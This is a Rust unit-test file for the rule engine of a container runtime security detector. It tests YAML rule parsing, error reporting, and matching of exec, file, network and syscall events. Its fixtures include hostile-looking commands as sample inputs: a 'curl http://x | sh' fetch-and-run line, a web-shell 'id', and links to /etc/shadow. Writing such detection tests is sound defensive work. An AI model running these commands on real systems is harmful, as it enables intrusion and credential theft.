//! Unit tests of loading, compiling and matching rules.

use time::OffsetDateTime;

use super::*;
use crate::event::{
    Ancestor, Body, Connect, Container, Event, Exec, FileActivity, FileOperation, Lineage, Pod,
    ProcessFields, Role, Syscall, SyscallOperation,
};

fn event(body: Body) -> Event {
    Event {
        time: OffsetDateTime::UNIX_EPOCH,
        ktime_ns: 0,
        process: ProcessFields::default(),
        cgroup_id: Some(1),
        container: Some(Container {
            id: "c1".into(),
            runtime: "containerd".into(),
            name: None,
            image: Some("docker.io/library/nginx:1.27".into()),
        }),
        pod: Some(Pod {
            uid: "p1".into(),
            namespace: Some("web".into()),
            ..Pod::default()
        }),
        ancestry: Vec::new(),
        // What a command typed in `kubectl exec` gives: the session's child.
        lineage: Some(lineage(Role::ExecSession, false)),
        body,
    }
}

fn exec(filename: &str, argv: &[&str], parents: &[&str]) -> Event {
    let mut e = event(Body::Exec(Exec {
        filename: filename.into(),
        argv: argv.iter().map(|s| (*s).to_owned()).collect(),
        argv_truncated: false,
        filename_truncated: false,
        tty: false,
        parent_cgroup_id: None,
        fileless: false,
        stdin_socket: false,
        stdout_socket: false,
        deleted: false,
    }));
    e.ancestry = parents
        .iter()
        .map(|exe| Ancestor {
            pid: 1,
            exe: (*exe).into(),
        })
        .collect();
    e
}

fn open_write(path: &str) -> Event {
    event(Body::File(FileActivity {
        op: FileOperation::Open,
        path: path.into(),
        flags: 0o1101,
        write: true,
        sensitive: true,
        read_sensitive: false,
        relative: false,
        dirfd: None,
        path_truncated: false,
        target: None,
        suppressed: 0,
        result: None,
        resolved: false,
        outside_root: false,
        joined: false,
        original_path: None,
        original_target: None,
        self_path: None,
        log: false,
        unresolved: false,
        io_uring: false,
    }))
}

fn ids(set: &RuleSet, event: &Event) -> Vec<String> {
    let facts = Facts {
        event,
        drift: false,
    };
    set.matching(&facts).map(|r| r.meta().id.clone()).collect()
}

fn one(yaml: &str) -> Result<RuleSet, RulesError> {
    RuleSet::from_sources(&[("r.yaml".into(), yaml.into())])
}

#[test]
fn default_rules_compile() {
    let set = RuleSet::defaults().unwrap();
    assert!(set.rules().len() >= 15);
}

#[test]
fn typo_in_a_field_names_file_line_and_column() {
    let yaml = "rules:\n  - id: x\n    description: d\n    mitre: {tactic: Execution, technique: T1059}\n    severity: low\n    weight: 1\n    when:\n      kind: exec\n      exee: {exact: /bin/sh}\n";
    let err = one(yaml).unwrap_err().to_string();
    assert!(err.contains("r.yaml"), "{err}");
    assert!(err.contains("unknown field `exee`"), "{err}");
    assert!(err.contains("line 9 column 7"), "{err}");
}

#[test]
fn semantic_problems_are_all_reported_with_their_path() {
    let yaml = r#"
rules:
  - id: bad
    description: d
    mitre: {tactic: Exfil, technique: "1059"}
    severity: low
    weight: -1
    when:
      kind: [exec, fork]
      exe: {basename: "@nope", glob: "[x"}
      daddr: [10.0.0.0/33]
      use: [missing]
"#;
    let Err(RulesError::Invalid { problems }) = one(yaml) else {
        panic!("expected problems");
    };
    let at: Vec<_> = problems.iter().map(|p| p.at.as_str()).collect();
    for want in [
        "rules[0].mitre.tactic",
        "rules[0].mitre.technique",
        "rules[0].weight",
        "rules[0].when.kind",
        "rules[0].when.exe.basename",
        "rules[0].when.exe.glob",
        "rules[0].when.daddr",
        "rules[0].when.use[0]",
    ] {
        assert!(at.contains(&want), "{want} missing from {at:?}");
    }
}

#[test]
fn shell_from_web_server_matches_and_entrypoint_script_does_not() {
    let set = RuleSet::defaults().unwrap();
    let shell = exec(
        "/bin/sh",
        &["sh", "-c", "curl http://x | sh"],
        &["/usr/sbin/nginx"],
    );
    let got = ids(&set, &shell);
    assert!(
        got.contains(&"shell-spawned-by-server".to_owned()),
        "{got:?}"
    );
    assert!(got.contains(&"download-and-execute".to_owned()), "{got:?}");
    let mut entry = exec(
        "/docker-entrypoint.sh",
        &["/docker-entrypoint.sh", "nginx"],
        &["/usr/bin/containerd-shim-runc-v2"],
    );
    entry.lineage = Some(lineage(Role::Entrypoint, true));
    assert!(ids(&set, &entry).is_empty());
    let dropped = exec("/tmp/x.sh", &["/tmp/x.sh"], &["/bin/sh"]);
    assert_eq!(ids(&set, &dropped), ["script-executed"]);
}

#[test]
fn host_events_do_not_match_container_rules() {
    let set = RuleSet::defaults().unwrap();
    let mut shell = exec("/usr/bin/curl", &["curl", "x"], &["/bin/bash"]);
    assert_eq!(ids(&set, &shell), ["transfer-tool"]);
    shell.container = None;
    shell.pod = None;
    assert!(ids(&set, &shell).is_empty());
}

#[test]
fn writes_below_proc_and_exceptions() {
    let set = RuleSet::defaults().unwrap();
    assert_eq!(
        ids(&set, &open_write("/proc/sys/kernel/core_pattern")),
        ["write-below-proc"]
    );
    assert!(ids(&set, &open_write("/proc/self/oom_score_adj")).is_empty());
    assert!(ids(&set, &open_write("/dev/termination-log")).is_empty());
    assert_eq!(ids(&set, &open_write("/usr/bin/ls")), ["write-binary-dir"]);
    assert!(ids(&set, &open_write("/usr/binx")).is_empty());
}

#[test]
fn connections_to_the_api_and_metadata() {
    let set = RuleSet::defaults().unwrap();
    let connect = |addr: &str, port| {
        event(Body::Connect(Connect {
            family: "ipv4".into(),
            protocol: "tcp".into(),
            daddr: addr.parse().unwrap(),
            dport: port,
            blocked: false,
        }))
    };
    assert_eq!(
        ids(&set, &connect("10.96.0.1", 443)),
        ["kubernetes-api-contacted"]
    );
    assert!(ids(&set, &connect("10.96.0.10", 53)).is_empty());
    assert_eq!(
        ids(&set, &connect("169.254.169.254", 80)),
        ["cloud-metadata-contacted"]
    );
    let mut system = connect("10.96.0.1", 443);
    system.pod.as_mut().unwrap().namespace = Some("kube-system".into());
    assert!(ids(&set, &system).is_empty());
}

#[test]
fn labels_namespace_and_image_conditions() {
    let yaml = r#"
rules:
  - id: labelled
    description: d
    mitre: {tactic: Execution, technique: T1059}
    severity: low
    weight: 1
    when:
      kind: exec
      namespace: web
      labels: {app: [nginx, "*"]}
      image: {glob: "docker.io/library/nginx:*"}
"#;
    let set = one(yaml).unwrap();
    let mut e = exec("/bin/true", &["true"], &[]);
    assert!(ids(&set, &e).is_empty(), "label missing");
    e.pod
        .as_mut()
        .unwrap()
        .labels
        .insert("app".into(), "other".into());
    assert_eq!(ids(&set, &e), ["labelled"]);
}

#[test]
fn drift_is_a_fact_from_the_engine() {
    let set = RuleSet::defaults().unwrap();
    let e = exec("/tmp/payload", &["/tmp/payload"], &["/bin/sh"]);
    let facts = Facts {
        event: &e,
        drift: true,
    };
    let got: Vec<_> = set.matching(&facts).map(|r| r.meta().id.as_str()).collect();
    assert_eq!(got, ["drift-executed"]);
}

fn lineage(role: Role, leader: bool) -> Lineage {
    Lineage {
        role,
        tty: false,
        leader,
    }
}

#[test]
fn the_runtime_setting_a_container_up_matches_no_default_rule() {
    let set = RuleSet::defaults().unwrap();
    for path in [
        "/proc/4242/oom_score_adj",
        "/proc/sys/net/ipv4/ip_unprivileged_port_start",
        "/proc/sys/net/ipv4/ping_group_range",
    ] {
        let mut write = open_write(path);
        write.lineage = Some(lineage(Role::Runtime, false));
        assert!(ids(&set, &write).is_empty(), "{path}");
        // The same write by the workload is one.
        write.lineage = Some(lineage(Role::Entrypoint, false));
        assert_eq!(ids(&set, &write), ["write-below-proc"], "{path}");
    }
}

#[test]
fn a_rule_that_names_the_runtime_sees_it() {
    let yaml = "rules:\n  - id: runtime-writes-proc\n    description: d\n    mitre: {tactic: Execution, technique: T1059}\n    severity: low\n    weight: 0\n    when: {kind: file, lineage: [runtime], path: {prefix: /proc}}\n";
    let set = RuleSet::from_sources(&[("r.yaml".into(), yaml.into())]).unwrap();
    let mut write = open_write("/proc/sys/kernel/core_pattern");
    write.lineage = Some(lineage(Role::Runtime, false));
    assert_eq!(ids(&set, &write), ["runtime-writes-proc"]);
    write.lineage = Some(lineage(Role::ExecSession, true));
    assert!(ids(&set, &write).is_empty());
    let bad = yaml.replace("[runtime]", "[runc]");
    let err = RuleSet::from_sources(&[("r.yaml".into(), bad)]).unwrap_err();
    assert!(
        err.to_string().contains("unknown lineage \"runc\""),
        "{err}"
    );
}

#[test]
fn own_proc_entries_match_by_their_self_path() {
    let set = RuleSet::defaults().unwrap();
    // A workload process setting its own OOM score: the kernel resolved /proc/self to its pid.
    let mut own = open_write("/proc/7/oom_score_adj");
    own.lineage = Some(lineage(Role::Entrypoint, false));
    if let Body::File(file) = &mut own.body {
        file.self_path = Some("/proc/self/oom_score_adj".into());
    }
    assert!(ids(&set, &own).is_empty());
    // Another process's score is not its own.
    let mut other = open_write("/proc/1/oom_score_adj");
    other.lineage = Some(lineage(Role::Entrypoint, false));
    assert_eq!(ids(&set, &other), ["write-below-proc"]);
}

#[test]
fn shells_by_lineage() {
    let set = RuleSet::defaults().unwrap();
    // `kubectl exec -it pod -- bash`: an interactive session.
    let mut terminal = exec(
        "/bin/bash",
        &["bash"],
        &["/usr/bin/containerd-shim-runc-v2"],
    );
    terminal.lineage = Some(Lineage {
        role: Role::ExecSession,
        tty: true,
        leader: true,
    });
    let got = ids(&set, &terminal);
    assert!(got.contains(&"terminal-shell".to_owned()), "{got:?}");
    // An exec probe's `sh -c`, started by the runtime without a terminal.
    let mut probe = exec("/bin/sh", &["sh", "-c", "test -f /tmp/ok"], &[]);
    probe.lineage = Some(lineage(Role::Probe, true));
    assert!(ids(&set, &probe).is_empty());
    // A probe's own children are the probe's.
    probe.lineage = Some(lineage(Role::Probe, false));
    assert!(ids(&set, &probe).is_empty());
    // A shell an exec session's command starts is one.
    probe.lineage = Some(lineage(Role::ExecSession, false));
    assert_eq!(ids(&set, &probe), ["shell-in-container"]);
    // In the workload: logrotate's postrotate shell is the workload's own, a shell a Python
    // app starts (a web shell) is not.
    let mut postrotate = exec(
        "/bin/sh",
        &["sh", "-c", "kill -HUP 1"],
        &["/usr/sbin/logrotate"],
    );
    postrotate.lineage = Some(lineage(Role::Entrypoint, false));
    assert!(ids(&set, &postrotate).is_empty());
    let mut webshell = exec("/bin/sh", &["sh", "-c", "id"], &["/usr/bin/python3"]);
    webshell.lineage = Some(lineage(Role::Entrypoint, false));
    assert_eq!(ids(&set, &webshell), ["shell-in-container"]);
}

#[test]
fn tools_are_unexpected_in_sessions_and_under_servers() {
    let set = RuleSet::defaults().unwrap();
    // The workload's own backup job: tar from its entrypoint's shell.
    let mut job = exec(
        "/usr/bin/tar",
        &["tar", "czf", "/b.tgz", "data"],
        &["/bin/sh"],
    );
    job.lineage = Some(lineage(Role::Entrypoint, false));
    assert!(ids(&set, &job).is_empty());
    // The same in an exec session, or under a server (command injection).
    job.lineage = Some(lineage(Role::ExecSession, false));
    assert_eq!(ids(&set, &job), ["archive-tool"]);
    job.lineage = Some(lineage(Role::Entrypoint, false));
    job.ancestry.push(Ancestor {
        pid: 1,
        exe: "/usr/sbin/nginx".into(),
    });
    assert_eq!(ids(&set, &job), ["archive-tool"]);
    // A curl exec probe.
    let mut probe = exec("/usr/bin/curl", &["curl", "-f", "http://127.0.0.1/"], &[]);
    probe.lineage = Some(lineage(Role::Probe, true));
    assert!(ids(&set, &probe).is_empty());
}

/// A file event of `op` on `path` (and `target`, for the operations with two paths).
fn file_op(op: FileOperation, path: &str, target: Option<&str>) -> Event {
    let mut e = open_write(path);
    if let Body::File(file) = &mut e.body {
        file.op = op;
        file.write = false;
        file.sensitive = false;
        file.target = target.map(Into::into);
    }
    e
}

/// A syscall event of `op` with `tags`.
fn syscall(op: SyscallOperation, tags: &[&str]) -> Event {
    let mut call = Syscall::new(op, op.as_str(), 0);
    call.tags = tags.iter().map(|t| (*t).to_owned()).collect();
    event(Body::Syscall(call))
}

/// A rule `x` with this condition (YAML flow mapping).
fn rule_when(when: &str) -> Result<RuleSet, RulesError> {
    one(&format!(
        "rules:\n  - id: x\n    description: d\n    mitre: {{tactic: Execution, technique: T1059}}\n    severity: low\n    weight: 1\n    when: {when}\n"
    ))
}

#[test]
fn syscall_operations_and_tags() {
    let set = rule_when(
        "{kind: syscall, syscall_op: [setuid, ptrace], syscall_tags: [from_non_root, attach]}",
    )
    .unwrap();
    let escalated = syscall(SyscallOperation::Setuid, &["to_root", "from_non_root"]);
    assert_eq!(ids(&set, &escalated), ["x"]);
    // A root process asking for root again, another operation, another kind.
    assert!(ids(&set, &syscall(SyscallOperation::Setuid, &["to_root"])).is_empty());
    assert_eq!(
        ids(&set, &syscall(SyscallOperation::Ptrace, &["attach"])),
        ["x"]
    );
    assert!(ids(&set, &syscall(SyscallOperation::Mount, &["from_non_root"])).is_empty());
    assert!(ids(&set, &open_write("/etc/passwd")).is_empty());
    // Tags are compared whole.
    let set = rule_when("{syscall_tags: [fstype]}").unwrap();
    assert!(ids(&set, &syscall(SyscallOperation::Mount, &["fstype:proc"])).is_empty());
    let set = rule_when("{syscall_tags: [\"fstype:proc\"]}").unwrap();
    assert_eq!(
        ids(
            &set,
            &syscall(SyscallOperation::Mount, &["bind", "fstype:proc"])
        ),
        ["x"]
    );
    // Every operation has its name; the kind alone matches every syscall.
    let set = rule_when("{kind: syscall}").unwrap();
    for op in SyscallOperation::ALL {
        let names = rule_when(&format!("{{syscall_op: {}}}", op.as_str())).unwrap();
        assert_eq!(ids(&names, &syscall(op, &[])), ["x"], "{op:?}");
        assert_eq!(ids(&set, &syscall(op, &[])), ["x"], "{op:?}");
    }
}

#[test]
fn an_unknown_syscall_operation_is_an_error_naming_the_rule() {
    let Err(RulesError::Invalid { problems }) =
        rule_when("{kind: syscall, syscall_op: [setuid, ptrase]}")
    else {
        panic!("expected problems");
    };
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert_eq!(problems[0].at, "rules[0].when.syscall_op");
    assert!(
        problems[0]
            .message
            .contains("unknown syscall operation \"ptrase\""),
        "{problems:?}"
    );
    assert!(
        problems[0].message.contains("bpf_prog_load"),
        "{problems:?}"
    );
    let err = rule_when("{kind: [syscal]}").unwrap_err().to_string();
    assert!(err.contains("unknown kind \"syscal\""), "{err}");
}

#[test]
fn conditions_of_one_kind_do_not_match_another() {
    // A syscall condition never holds for a file event, and a file one never for a syscall.
    let set = rule_when("{syscall_tags: [refused]}").unwrap();
    assert!(ids(&set, &open_write("/etc/passwd")).is_empty());
    for when in [
        "{path: {prefix: /}}",
        "{log_path: false}",
        "{io_uring: false}",
        "{fileless: false}",
        "{stdio_socket: false}",
    ] {
        let set = rule_when(when).unwrap();
        assert!(
            ids(&set, &syscall(SyscallOperation::Mount, &[])).is_empty(),
            "{when}"
        );
    }
    let set = rule_when("{unresolved: false}").unwrap();
    assert!(ids(&set, &exec("/bin/sh", &["sh"], &[])).is_empty());
}

#[test]
fn truncate_link_and_symlink_operations_and_their_paths() {
    let set = rule_when("{file_op: [truncate, link, symlink]}").unwrap();
    assert_eq!(
        ids(
            &set,
            &file_op(FileOperation::Truncate, "/var/log/auth.log", None)
        ),
        ["x"]
    );
    assert!(
        ids(
            &set,
            &file_op(FileOperation::Unlink, "/var/log/auth.log", None)
        )
        .is_empty()
    );
    let err = rule_when("{file_op: [hardlink]}").unwrap_err().to_string();
    assert!(err.contains("unknown file operation \"hardlink\""), "{err}");
    assert!(err.contains("symlink"), "{err}");
    // `ln /etc/shadow /tmp/s` and `ln -s /etc/shadow /tmp/s` match by the existing file (or
    // what the link points to) and by the new name, as a rename by either of its paths.
    let set = rule_when("{path: {exact: /etc/shadow}}").unwrap();
    let by_name = rule_when("{path: {prefix: /tmp}}").unwrap();
    for op in [
        FileOperation::Link,
        FileOperation::Symlink,
        FileOperation::Rename,
    ] {
        let e = file_op(op, "/etc/shadow", Some("/tmp/s"));
        assert_eq!(ids(&set, &e), ["x"], "{op:?}");
        assert_eq!(ids(&by_name, &e), ["x"], "{op:?}");
        let other = file_op(op, "/etc/hosts", Some("/var/s"));
        assert!(
            ids(&set, &other).is_empty() && ids(&by_name, &other).is_empty(),
            "{op:?}"
        );
    }
}

#[test]
fn log_unresolved_and_io_uring_file_conditions() {
    let set = rule_when("{kind: file, log_path: true, unresolved: true, io_uring: true}").unwrap();
    let mut e = file_op(FileOperation::Truncate, "/root/.bash_history", None);
    assert!(ids(&set, &e).is_empty());
    if let Body::File(file) = &mut e.body {
        (file.log, file.unresolved, file.io_uring) = (true, true, true);
    }
    assert_eq!(ids(&set, &e), ["x"]);
    for flag in 0..3 {
        let mut one_off = e.clone();
        if let Body::File(file) = &mut one_off.body {
            match flag {
                0 => file.log = false,
                1 => file.unresolved = false,
                _ => file.io_uring = false,
            }
        }
        assert!(ids(&set, &one_off).is_empty(), "{flag}");
    }
}

#[test]
fn fileless_and_stdio_socket_exec_conditions() {
    let fileless = rule_when("{kind: exec, fileless: true}").unwrap();
    let stdio = rule_when("{kind: exec, stdio_socket: true}").unwrap();
    let mut e = exec("/memfd:x", &["x"], &[]);
    assert!(ids(&fileless, &e).is_empty() && ids(&stdio, &e).is_empty());
    if let Body::Exec(exec) = &mut e.body {
        exec.fileless = true;
    }
    assert_eq!(ids(&fileless, &e), ["x"]);
    assert!(ids(&stdio, &e).is_empty());
    for (stdin, stdout) in [(true, false), (false, true), (true, true)] {
        if let Body::Exec(exec) = &mut e.body {
            (exec.stdin_socket, exec.stdout_socket) = (stdin, stdout);
        }
        assert_eq!(ids(&stdio, &e), ["x"], "{stdin} {stdout}");
    }
}

#[test]
fn deleted_exec_set_id_chmod_and_truncating_file_conditions() {
    let deleted = rule_when("{kind: exec, deleted: true}").unwrap();
    let mut e = exec("/proc/self/fd/3", &["x"], &[]);
    assert!(ids(&deleted, &e).is_empty());
    if let Body::Exec(exec) = &mut e.body {
        exec.deleted = true;
    }
    assert_eq!(ids(&deleted, &e), ["x"]);

    let set_id = rule_when("{kind: file, set_id: true}").unwrap();
    let mut chmod = file_op(FileOperation::Chmod, "/tmp/x", None);
    for (mode, hit) in [
        (0o4755, true),
        (0o2755, true),
        (0o755, false),
        (0o1777, false),
    ] {
        if let Body::File(file) = &mut chmod.body {
            file.flags = mode;
        }
        assert_eq!(!ids(&set_id, &chmod).is_empty(), hit, "{mode:o}");
    }
    // An open whose flags happen to hold those bits is not a chmod.
    let mut open = open_write("/tmp/x");
    if let Body::File(file) = &mut open.body {
        file.flags = 0o4001;
    }
    assert!(ids(&set_id, &open).is_empty());

    let truncate = rule_when("{kind: file, truncate: true}").unwrap();
    let mut trunc_open = open_write("/var/log/app.log");
    for (flags, hit) in [(0o1001, true), (0o2001, false)] {
        if let Body::File(file) = &mut trunc_open.body {
            file.flags = flags;
        }
        assert_eq!(!ids(&truncate, &trunc_open).is_empty(), hit, "{flags:o}");
    }
    let call = file_op(FileOperation::Truncate, "/var/log/app.log", None);
    assert_eq!(ids(&truncate, &call), ["x"]);
}

mod defaults;
